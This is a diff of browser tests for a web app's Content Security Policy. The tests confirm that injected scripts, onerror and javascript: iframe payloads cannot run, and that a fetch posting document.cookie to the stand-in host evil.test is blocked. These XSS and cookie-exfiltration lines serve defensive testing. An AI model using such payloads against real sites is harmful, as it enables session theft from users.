@@ -5,12 +5,15 @@ import { COOKIE_NAME, sessionPage, UUID } from '../support/session-page.ts'
 
 const VIOLATION = /violates the following Content Security Policy directive/
 
-test('a script that was smuggled into the HTML does not run (X1)', async ({ page, app, problems }) => {
+test('a script that is injected into the HTML does not run', async ({ page, app, problems }) => {
   problems.expect(VIOLATION)
-  const { status, headers, body } = await call(`${app.origin}/`, { headers: { accept: 'text/html' } })
-  const smuggled = body.replace(/<body[^>]*>/, tag => `${tag}<script>window.stolen = document.cookie</script>`).replace('<h1', '<h1 onclick="window.stolen = 1"')
-  expect(smuggled).toMatch(/<script>window\.stolen[^]*onclick="window\.stolen/)
-  await page.route('/', route => route.fulfill({ status, headers: { ...headers as Record<string, string>, 'set-cookie': '' }, body: smuggled }))
+  const response = await call(`${app.origin}/`, { headers: { accept: 'text/html' } })
+  const headers = { ...response.headers as Record<string, string>, 'set-cookie': '' }
+  const body = response.body
+    .replace(/<body[^>]*>/, tag => `${tag}<script>window.stolen = document.cookie</script>`)
+    .replace('<h1', '<h1 onclick="window.stolen = 1"')
+  expect(body).toMatch(/<script>window\.stolen[^]*onclick="window\.stolen/)
+  await page.route('/', route => route.fulfill({ status: response.status, headers, body }))
   await page.goto('/')
   await expect(sessionPage(page).value).toHaveValue(UUID)
   await page.getByRole('heading', { level: 1 }).click()
@@ -18,7 +21,7 @@ test('a script that was smuggled into the HTML does not run (X1)', async ({ page
   expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
 })
 
-test('a script that markup brings into the living page does not run (X1)', async ({ page, problems }) => {
+test('a script that is injected into the open page does not run', async ({ page, problems }) => {
   problems.expect(VIOLATION)
   await page.goto('/')
   await expect(sessionPage(page).value).toHaveValue(UUID)
@@ -26,26 +29,30 @@ test('a script that markup brings into the living page does not run (X1)', async
     const script = document.createElement('script')
     script.textContent = 'window.stolen = 1'
     document.body.append(script)
-    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.stolen = 1"><iframe src="javascript:parent.stolen = 1"></iframe>')
+    const image = '<img src="data:," onerror="window.stolen = 1">'
+    const frame = '<iframe src="javascript:parent.stolen = 1"></iframe>'
+    document.body.insertAdjacentHTML('beforeend', image + frame)
   })
 
   await expect.poll(() => page.evaluate(() => 'stolen' in window)).toBe(false)
 })
 
-test('a smuggled script that did run could neither read the cookie nor send anything elsewhere (X1)', async ({ page, problems }) => {
+test('a script can neither read the cookie nor send anything to another origin', async ({ page, problems }) => {
   problems.expect(/connect-src/)
   problems.expect(/Refused to connect because it violates the document's Content Security Policy/)
   await page.goto('/')
   await expect(sessionPage(page).value).toHaveValue(UUID)
-  const sent = await page.evaluate(() => fetch('https://evil.test/', { method: 'POST', body: document.cookie }).then(() => true, () => false))
+  const sent = await page.evaluate(() => {
+    return fetch('https://evil.test/', { method: 'POST', body: document.cookie }).then(() => true, () => false)
+  })
 
   expect(sent).toBe(false)
   expect(await page.evaluate(() => document.cookie)).not.toContain(COOKIE_NAME)
 })
 
-test('no other origin can show a page in a frame', async ({ page, app, problems }) => {
+test('another origin cannot show a page in a frame', async ({ page, app, problems }) => {
   problems.expect(/frame-ancestors/)
-  problems.allow(/ERR_CONNECTION_REFUSED/) // The client looks for an API that is not there.
+  problems.allow(/ERR_CONNECTION_REFUSED/) // The client calls an API that does not run.
   const client = await serveClient(0)
   await page.goto(client.origin)
   await page.evaluate((source) => {
